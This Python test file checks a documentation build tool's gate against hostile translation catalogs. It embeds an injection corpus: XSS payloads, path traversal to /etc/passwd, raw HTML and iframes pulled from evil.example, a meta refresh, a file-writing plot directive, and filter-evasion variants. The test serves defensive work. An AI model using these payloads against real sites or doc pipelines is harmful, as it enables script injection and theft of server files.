"""The security gate of the site build: hostile msgstrs never reach _build/html.

A small docs tree (reST and MyST) whose catalogs carry an injection corpus, built with
real Sphinx through `jaxko site build`: no payload's effect appears in the output (no
file content from outside the tree, no script/data URL, no script or event handler the
English page lacks), each payload is reported with its catalog line, and `--strict`
fails. A clean catalog of the same tree builds with nothing blocked.
"""

from __future__ import annotations

import os
import re
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import nbformat

import polib
import pytest

from conftest import run_jaxko
from jaxko.site import build as site_build
from jaxko.site import gate as site_gate

OUTSIDE = "../" * 12 + "etc/passwd"
PWNED = Path(tempfile.gettempdir()) / f"jaxko-gate-plot-{os.getpid()}"
SECRET = Path("/etc/passwd").read_text(encoding="utf-8").splitlines()[0]

# (page, msgstr payload). Each msgid is "Paragraph N of <page>." in the English page.
PAYLOADS = [
    ("page", f"{{download}}`비밀 <{OUTSIDE}>`을 받으세요."),
    ("index", f":download:`비밀 <{OUTSIDE}>`을 받으세요."),
    ("index", ".. raw:: html\n   :file: /etc/passwd"),
    ("index", ".. raw:: html\n   :url: https://evil.example/x.html"),
    ("page", "[여기](javascript:alert(1))를 누르세요."),
    ("index", "`여기 <javascript:alert(1)>`_ 를 누르세요."),
    ("index", ".. include:: /etc/passwd"),
    ("index", ".. literalinclude:: /etc/passwd"),
    ("index", f".. image:: {OUTSIDE}"),
    ("page", f"![그림]({OUTSIDE})"),
    ("page", f"```{{figure}} {OUTSIDE}\n```"),
    ("page", "안녕하세요 <script>alert(1)</script>"),
    ("page", "사진 <img src=x onerror=alert(1)>"),
    ("page", "[데이터](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("page", "[클릭](vbscript:msgbox(1))"),
    ("page", "```{raw} html\n<script>alert(2)</script>\n```"),
    ("page", "<div onclick=\"alert(3)\">눌러 보세요</div>"),
    ("page", "<iframe src=\"https://evil.example\"></iframe>"),
    ("page", "```{eval-rst}\n.. raw:: html\n\n   <script>alert(4)</script>\n```"),
    # Ways around a pattern: reST escapes, spacing, substitutions, role definitions.
    ("index", "`여기 <java\\script:alert(5)>`_ 를 누르세요."),
    ("index", "본문.\n\n.. raw :: html\n   :file: /etc/passwd"),
    ("index", "본문 |x|.\n\n.. |x| raw:: html\n   :file: /etc/passwd"),
    ("index", "본문 :h:`<script>alert(6)</script>`.\n\n.. role:: h(raw)\n   :format: html"),
    # Directives that read files, run code or change the page.
    ("index", "본문.\n\n.. csv-table:: 표\n   :file: /etc/passwd"),
    ("index", f"본문.\n\n.. mermaid:: {OUTSIDE}"),
    ("index", f"본문.\n\n.. plot::\n\n   open({str(PWNED)!r}, 'w').write('x')"),
    ("index", "본문.\n\n.. meta::\n   :http-equiv=refresh: 0; url=https://evil.example/"),
    ("page", "```{csv-table} 표\n:file: /etc/passwd\n```"),
    ("page", "본문 <a href=\"jav&#97;script:alert(7)\">여기</a>"),
    # Links with other schemes (MyST's path: copies the file it names).
    ("page", f"[비밀](path:{OUTSIDE})을 받으세요."),
    ("page", "[전화](tel:+82-2-123-4567) 주세요."),
    ("index", "`앱 <intent://scan/#Intent;scheme=zxing;end>`_ 을 여세요."),
    ("index", "여기 `t`_ 를 보세요.\n\n.. _t: custom:thing"),
    # HTML blocks and links in notebook Markdown cells.
    ("nb", "<div onmouseover=\"alert(8)\">마우스를 올려 보세요</div>"),
    ("nb", "<script>alert(9)</script>"),
    ("nb", "[여기](javascript:alert(10))를 누르세요."),
    ("nb", f"![그림]({OUTSIDE})"),
]
PAGES = {"index": "rst", "page": "md", "nb": "ipynb"}
CLEAN = "번역된 문단입니다."


def _tree(tmp: Path, hostile: bool) -> tuple[Path, Path]:
    docs = tmp / "docs"
    docs.mkdir()
    counts = {page: 1 + sum(1 for p, _ in PAYLOADS if p == page) for page in PAGES}
    paragraphs = {page: [f"Paragraph {i} of {page}." for i in range(1, counts[page] + 1)]
                  for page in PAGES}  # the last one of each page stays clean
    (docs / "index.rst").write_text(
        "Gate test\n=========\n\n.. toctree::\n\n   page\n   nb\n\n"
        + "".join(f"{p}\n\n" for p in paragraphs["index"]), encoding="utf-8")
    (docs / "page.md").write_text(
        "# Page\n\n" + "".join(f"{p}\n\n" for p in paragraphs["page"]), encoding="utf-8")
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Notebook")] + [
        nbformat.v4.new_markdown_cell(p) for p in paragraphs["nb"]])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                       "language": "python"}
    nbformat.write(notebook, str(docs / "nb.ipynb"))
    locale = tmp / "locale"
    out = locale / "ko" / "LC_MESSAGES"
    out.mkdir(parents=True)
    seen = dict.fromkeys(PAGES, 0)
    catalogs = {name: polib.POFile() for name in PAGES}
    for name, catalog in catalogs.items():
        catalog.metadata = {"Content-Type": "text/plain; charset=UTF-8",
                            "Plural-Forms": "nplurals=1; plural=0;"}
    for page, payload in PAYLOADS:
        seen[page] += 1
        catalogs[page].append(polib.POEntry(
            msgid=f"Paragraph {seen[page]} of {page}.",
            msgstr=payload if hostile else CLEAN,
            occurrences=[(f"{page}.{PAGES[page]}", str(seen[page]))]))
    for page, catalog in catalogs.items():
        catalog.append(polib.POEntry(msgid=f"Paragraph {counts[page]} of {page}.", msgstr=CLEAN))
        catalog.save(str(out / f"{page}.po"))
    return docs, locale


class _Active(HTMLParser):
    """What in a page's HTML could act: script-like tags, handlers, non-web links."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "meta", "base"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag} {name}=")
            if name in ("href", "src") and value and re.match(
                    r"\s*(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", re.sub(r"[\t\n\r]", "", value), re.I):
                self.found.append(f"{tag} {name}={value}")


def active_parts(html: str) -> list[str]:
    parser = _Active()
    parser.feed(html)
    return parser.found


def _articles(outdir: Path) -> str:
    whole = "\n".join((outdir / f"{n}.html").read_text(encoding="utf-8") for n in PAGES)
    articles = re.findall(r"<article.*?</article>", whole, re.S)
    assert len(articles) == len(PAGES)
    return "\n".join(articles)


def _no_effect(outdir: Path, *, gated: bool = True) -> None:
    """None of the payloads' effects is in the built site (ungated: a new https link may
    show, as text the reader sees; nothing from outside, nothing that acts)."""
    assert SECRET not in _output_text(outdir)  # no file content from outside the tree
    assert not list(outdir.rglob("passwd"))
    assert not PWNED.exists()  # no code ran
    whole = "\n".join((outdir / f"{n}.html").read_text(encoding="utf-8") for n in PAGES)
    assert not re.search(r"""href=["']?\s*(?:javascript|data|vbscript):""", whole, re.I)
    assert "http-equiv" not in whole.lower()
    assert "evil.example" not in whole or not gated
    # The theme has its own scripts and handlers; the translated content has none.
    assert active_parts(_articles(outdir)) == []


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("gate")
    docs, locale = _tree(tmp, hostile=True)
    result = site_build.build(execute=False, srcdir=docs, outdir=tmp / "html", locale_dir=locale)
    return tmp, docs, locale, result


def _output_text(outdir: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8", errors="replace")
                     for p in outdir.rglob("*") if p.is_file())


def test_no_payload_reaches_the_output(hostile):
    _, _, _, result = hostile
    _no_effect(result.outdir)
    pages = _articles(result.outdir)
    assert "alert(" not in pages and "<iframe" not in pages
    # The refused messages keep the English; the clean ones are translated.
    assert "Paragraph 1 of page." in pages and "Paragraph 1 of nb." in pages
    assert pages.count(CLEAN) == len(PAGES)


def test_the_second_layer_holds_without_the_catalog_gate(tmp_path, monkeypatch):
    """With the catalog gate let through (as if a rule missed a payload), the Sphinx layer
    still keeps every effect off the site: no file insertion or raw content in a
    translated message, active HTML shown as text, only http/https/mailto links."""
    monkeypatch.setattr(site_gate, "find_blocked", lambda *args, **kwargs: [])
    docs, locale = _tree(tmp_path, hostile=True)
    result = site_build.build(execute=False, srcdir=docs, outdir=tmp_path / "html",
                              locale_dir=locale)
    assert result.blocked == []
    _no_effect(result.outdir, gated=False)
    gate_warnings = [w for w in result.unexpected if "jaxko gate" in w or "disabled" in w]
    assert len(gate_warnings) >= 5, result.warnings


def test_every_payload_is_reported_with_its_catalog_line(hostile):
    _, _, locale, result = hostile
    reported = {(Path(b.path).name, b.msgid) for b in result.blocked}
    expected = set()
    seen = dict.fromkeys(PAGES, 0)
    for page, _ in PAYLOADS:
        seen[page] += 1
        expected.add((f"{page}.po", f"Paragraph {seen[page]} of {page}."))
    assert reported == expected
    for blocked in result.blocked:
        lines = Path(blocked.path).read_text(encoding="utf-8").splitlines()
        assert blocked.msgid in "\n".join(lines[blocked.line - 1: blocked.line + 1])
        assert blocked.rule.startswith("safety.")


def test_strict_build_fails_and_names_each_blocked_message(hostile, tmp_path):
    _, docs, locale, _ = hostile
    proc = run_jaxko("site", "build", "--no-execute", "--no-notebooks", "--strict",
                     "--srcdir", str(docs), "--outdir", str(tmp_path / "html"),
                     "--locale-dir", str(locale))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    blocked = [line for line in proc.stdout.splitlines() if line.startswith("blocked: ")]
    assert all(re.match(r"blocked: \S+\.po:\d+: safety\.", line) for line in blocked)
    # One message may break several rules: each is named; every payload is there.
    assert len({line.split(": ")[1] for line in blocked}) == len(PAYLOADS)
    assert "Traceback" not in proc.stderr


def test_clean_catalogs_build_with_nothing_blocked(tmp_path):
    docs, locale = _tree(tmp_path, hostile=False)
    result = site_build.build(execute=False, srcdir=docs, outdir=tmp_path / "html",
                              locale_dir=locale)
    assert result.blocked == []
    assert CLEAN in (result.outdir / "page.html").read_text(encoding="utf-8")


def test_a_source_download_outside_the_tree_is_not_copied(tmp_path):
    """The second layer: even a source page cannot pull a file from outside the tree."""
    docs, locale = _tree(tmp_path, hostile=False)
    with (docs / "page.md").open("a", encoding="utf-8") as handle:
        handle.write(f"\n{{download}}`secret <{OUTSIDE}>`\n")
    result = site_build.build(execute=False, srcdir=docs, outdir=tmp_path / "html",
                              locale_dir=locale)
    assert SECRET not in _output_text(result.outdir)
    assert any("outside the docs tree" in w for w in result.unexpected)


def test_html_in_a_rest_msgstr_is_shown_as_text_not_blocked(tmp_path):
    """reST has no inline HTML: docutils escapes `<script>` in a paragraph, so the check
    does not call it raw HTML there (safety.html is MyST-only) and the page shows it as
    text, with nothing that acts."""
    docs, locale = _tree(tmp_path, hostile=False)
    catalog = locale / "ko" / "LC_MESSAGES" / "index.po"
    po = polib.pofile(str(catalog))
    po.find("Paragraph 1 of index.").msgstr = "본문 <script>alert(11)</script> <img src=x onerror=alert(12)>"
    po.save(str(catalog))
    result = site_build.build(execute=False, srcdir=docs, outdir=tmp_path / "html",
                              locale_dir=locale)
    assert result.blocked == []
    pages = _articles(result.outdir)
    assert "본문 &lt;script&gt;alert(11)&lt;/script&gt;" in pages
    assert active_parts(pages) == []
